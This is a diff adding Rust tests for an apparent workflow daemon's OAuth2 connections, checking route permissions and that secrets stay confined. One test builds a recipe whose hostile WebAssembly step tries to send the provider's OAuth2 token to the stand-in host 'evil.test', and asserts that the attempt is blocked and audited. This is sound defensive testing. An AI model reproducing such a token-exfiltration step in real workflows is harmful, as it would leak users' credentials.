@@ -26,7 +26,8 @@ struct Provider {
 
 impl Provider {
     async fn new(site: &Site) -> Provider {
-        let pki = TestPki::new(&["oauth.test"]);
+        // `evil.test` is another host a hostile step may be granted.
+        let pki = TestPki::new(&["oauth.test", "evil.test"]);
         let ca = site.dir.join("oauth-ca.pem");
         std::fs::write(&ca, pki.ca_pem()).unwrap();
         let secret = canary("client-secret");
@@ -37,7 +38,10 @@ impl Provider {
             env: vec![
                 ("WRUN_CA_FILE".into(), ca.display().to_string()),
                 ("WRUN_ALLOW_RANGES".into(), "127.0.0.0/8".into()),
-                ("WRUN_RESOLVE".into(), "oauth.test=127.0.0.1".into()),
+                (
+                    "WRUN_RESOLVE".into(),
+                    "oauth.test=127.0.0.1,evil.test=127.0.0.1".into(),
+                ),
             ],
         }
     }
@@ -440,4 +444,102 @@ async fn a_client_credentials_connection_with_a_wrong_secret_says_so_when_added(
     assert_eq!(r.json["oauth2"]["state"], "ready", "{}", r.json);
     assert!(r.json.get("error").is_none(), "{}", r.json);
     assert_eq!(provider.server.token_calls().client_credentials, 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_step_cannot_send_the_oauth2_token_to_another_granted_host() {
+    let (site, token) = site("");
+    let provider = Provider::new(&site).await;
+    let port = provider.server.port();
+    // Granted both hosts; the connection is bound to the provider only.
+    let text = format!(
+        "[recipe]\nname = \"leak\"\n\n[trigger]\nkind = \"manual\"\n\n[[steps]]\nname = \"call\"\ncomponent = \"components/hostile.wasm\"\naction = \"auth\"\ninput = {{ url = \"https://evil.test:{port}/api/me\", secret = \"api\" }}\n\n[steps.grants]\nnet = [\"oauth.test:{port}\", \"evil.test:{port}\"]\nsecrets = {{ api = \"api\" }}\nenv = [\"unused\"]\n"
+    );
+    let leak = bundle(&site, "leak", "hostile.wasm", &text);
+    let daemon = provider.start(&site);
+    let mut api = daemon.client().await;
+    provider.add_connection(&mut api, &token).await;
+    provider.authorize(&mut api, &token).await;
+    deploy(&mut api, &token, "leak", &leak).await;
+    let r = api
+        .post(
+            &format!("/v1/workspaces/{WS}/recipes/leak/runs"),
+            &token,
+            &json!({ "environment": "prod", "input": {} }),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.json);
+    let job = r.json["job"].as_str().unwrap().to_string();
+    let detail = api.wait_job(WS, &job, &token).await;
+    assert_eq!(detail["state"], "failed", "{detail}");
+    assert!(detail.to_string().contains("evil.test"), "{detail}");
+    // The request never left: the provider's API saw nothing at all.
+    assert_eq!(provider.server.api_calls(), (0, 0));
+    let issued = provider.server.issued_access_tokens();
+    let needles: Vec<&str> = issued.iter().map(String::as_str).collect();
+    assert_absent(detail.to_string().as_bytes(), &needles, "the job's history");
+    assert!(
+        site.audit_entries()
+            .iter()
+            .any(|e| e["action"] == "secret.misuse"),
+        "the attempt is audited"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_oauth2_routes_need_the_connections_permission() {
+    let (site, admin) = site("");
+    let reader = site.token(WS, "alice", "*:read");
+    site.member("team-b", "bob", "admin");
+    let other = site.token("team-b", "bob", "*:write");
+    let provider = Provider::new(&site).await;
+    let daemon = provider.start(&site);
+    let mut api = daemon.client().await;
+    provider.add_connection(&mut api, &admin).await;
+    let oauth2 = format!("/v1/workspaces/{WS}/connections/api/oauth2");
+    let authorize = format!("/v1/workspaces/{WS}/connections/api/authorize");
+    let body = json!({ "hosts": ["oauth.test"], "grant": "client_credentials",
+        "token_url": format!("{}/token", provider.base()), "client_id": "x",
+        "client_secret": "attacker-secret-0123456789abcdef" });
+
+    // No credential at all.
+    for (method, path, body) in [
+        (Method::GET, &oauth2, None),
+        (Method::PUT, &oauth2, Some(&body)),
+        (Method::POST, &authorize, Some(&json!({}))),
+    ] {
+        let r = api.send(method.clone(), path, None, body).await;
+        assert_eq!(
+            r.status,
+            StatusCode::UNAUTHORIZED,
+            "{method} {path}: {}",
+            r.json
+        );
+    }
+    // A reader sees the client, and may change nothing.
+    let r = api.get(&oauth2, &reader).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
+    assert!(
+        !r.raw
+            .windows(provider.secret.len())
+            .any(|w| w == provider.secret.as_bytes())
+    );
+    let r = api.put(&oauth2, &reader, &body).await;
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.json);
+    let r = api.post(&authorize, &reader, &json!({})).await;
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.json);
+    // Another workspace's admin does not see it.
+    let r = api.get(&oauth2, &other).await;
+    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.json);
+    let r = api.post(&authorize, &other, &json!({})).await;
+    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.json);
+    // Nothing changed: still the admin's pending client, no flow started.
+    let r = api.get(&oauth2, &admin).await;
+    assert_eq!(
+        r.json["oauth2"]["config"]["grant"], "authorization_code",
+        "{}",
+        r.json
+    );
+    assert_eq!(audited(&site, "connection.oauth.authorize").len(), 0);
+    assert_eq!(provider.server.token_requests_started(), 0);
 }
